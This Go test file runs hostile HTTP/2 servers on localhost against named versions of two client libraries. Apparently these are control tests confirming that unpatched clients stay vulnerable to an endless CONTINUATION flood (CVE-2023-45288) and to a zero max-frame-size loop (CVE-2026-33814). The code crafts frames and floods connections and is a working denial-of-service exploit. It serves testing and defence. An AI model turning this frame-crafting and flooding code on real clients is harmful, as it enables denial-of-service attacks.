package controls

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	fhttp "github.com/bogdanfinn/fhttp"
	fhttp2 "github.com/bogdanfinn/fhttp/http2"
	xhttp2 "golang.org/x/net/http2"
)

const (
	typeHeaders      = 1
	typeSettings     = 4
	typePing         = 6
	typeContinuation = 9
)

// attackTime is how long an attack lasts. guise ends each within 10 ms.
const attackTime = time.Second

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// readFrame reads a frame. A PING is answered.
func readFrame(conn net.Conn) (kind byte, length int, err error) {
	var h [9]byte
	if _, err := io.ReadFull(conn, h[:]); err != nil {
		return 0, 0, err
	}
	payload := make([]byte, int(h[0])<<16|int(h[1])<<8|int(h[2]))
	if _, err = io.ReadFull(conn, payload); err == nil && h[3] == typePing {
		_, err = conn.Write(frame(typePing, 1, 0, payload))
	}
	return h[3], len(payload), err
}

// A client sends one POST to an HTTP/2 server in clear text, once it has seen the
// server's SETTINGS: those come ahead of the answer to its PING.
type client func(ctx context.Context, addr string) error

func xnet(ctx context.Context, addr string) error {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	cc, err := (&xhttp2.Transport{AllowHTTP: true}).NewClientConn(conn)
	if err != nil {
		return err
	}
	if err := cc.Ping(ctx); err != nil {
		return err
	}
	req, err := http.NewRequestWithContext(ctx, "POST", "http://"+addr+"/", strings.NewReader("body"))
	if err != nil {
		return err
	}
	resp, err := cc.RoundTrip(req)
	if err != nil {
		return err
	}
	return resp.Body.Close()
}

func fhttpClient(ctx context.Context, addr string) error {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	cc, err := (&fhttp2.Transport{AllowHTTP: true}).NewClientConn(conn)
	if err != nil {
		return err
	}
	if err := cc.Ping(ctx); err != nil {
		return err
	}
	req, err := fhttp.NewRequestWithContext(ctx, "POST", "http://"+addr+"/", strings.NewReader("body"))
	if err != nil {
		return err
	}
	resp, err := cc.RoundTrip(req)
	if err != nil {
		return err
	}
	return resp.Body.Close()
}

// attack gives the first connection of c to server and returns when that does.
func attack(t *testing.T, c client, server func(conn net.Conn)) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), attackTime+5*time.Second)
	defer cancel()
	go c(ctx, l.Addr().String()) // some of them never come back
	conn, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	defer conn.Close()
	if _, err := io.CopyN(io.Discard, conn, int64(len(xhttp2.ClientPreface))); err != nil {
		t.Fatal(err)
	}
	conn.SetDeadline(time.Now().Add(attackTime))
	server(conn)
}

// H07, http2 TestPeerMaxFrameSize: SETTINGS_MAX_FRAME_SIZE of 0 makes a client
// without the fix of CVE-2026-33814 write empty CONTINUATION frames for ever.
func TestH07ZeroMaxFrameSize(t *testing.T) {
	for name, c := range map[string]client{"x/net v0.38.0": xnet, "fhttp v0.6.8": fhttpClient} {
		t.Run(name, func(t *testing.T) {
			empty := 0
			attack(t, c, func(conn net.Conn) {
				conn.Write(frame(typeSettings, 0, 0, []byte{0, 5, 0, 0, 0, 0}))
				for {
					kind, length, err := readFrame(conn)
					if err != nil {
						return
					}
					if kind == typeContinuation && length == 0 {
						empty++
					}
				}
			})
			t.Logf("%d empty CONTINUATION frames in %v", empty, attackTime)
			if empty < 10000 {
				t.Error("the control no longer fails")
			}
		})
	}
}

// A01, http2 TestEndlessContinuation: a client without the fix of CVE-2023-45288
// reads CONTINUATION frames without end.
func TestA01EndlessContinuation(t *testing.T) {
	growing := []byte(strings.Repeat("\x00\x01a\x7f\x80\x01"+strings.Repeat("v", 255), 62))
	for _, tt := range []struct {
		name     string
		client   client
		fragment []byte
		fails    bool
	}{
		{"fhttp v0.6.8, growing list", fhttpClient, growing, true},
		{"fhttp v0.6.8, empty fragments", fhttpClient, nil, true},
		{"x/net v0.38.0, empty fragments", xnet, nil, true},
		{"x/net v0.38.0, growing list", xnet, growing, false}, // the attack is one that can be survived
	} {
		t.Run(tt.name, func(t *testing.T) {
			var written int
			var ended error
			attack(t, tt.client, func(conn net.Conn) {
				conn.Write(frame(typeSettings, 0, 0, nil))
				for kind := byte(0); kind != typeHeaders; {
					var err error
					if kind, _, err = readFrame(conn); err != nil {
						t.Errorf("no request: %v", err)
						return
					}
				}
				go io.Copy(io.Discard, conn)
				conn.Write(frame(typeHeaders, 0, 1, []byte{0x88}))
				one := frame(typeContinuation, 0, 1, tt.fragment)
				var batch []byte
				for len(batch) < 1<<16 {
					batch = append(batch, one...)
				}
				for ended == nil {
					var n int
					n, ended = conn.Write(batch)
					written += n
				}
			})
			open := strings.Contains(ended.Error(), "timeout")
			t.Logf("%.1f MB written in %v, still open: %t", float64(written)/1e6, attackTime, open)
			if open != tt.fails {
				t.Errorf("ended with %v", ended)
			}
		})
	}
}
